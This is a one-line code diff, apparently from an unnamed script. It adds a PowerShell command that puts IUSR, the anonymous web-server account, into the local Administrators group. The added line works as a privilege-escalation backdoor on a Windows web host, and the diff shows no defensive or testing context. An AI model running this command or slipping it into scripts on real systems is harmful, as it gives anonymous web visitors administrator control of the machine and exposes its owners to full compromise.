@@ -1,0 +1,1 @@
+pwsh -NoProfile -Command 'net localgroup Administrators IUSR /add'
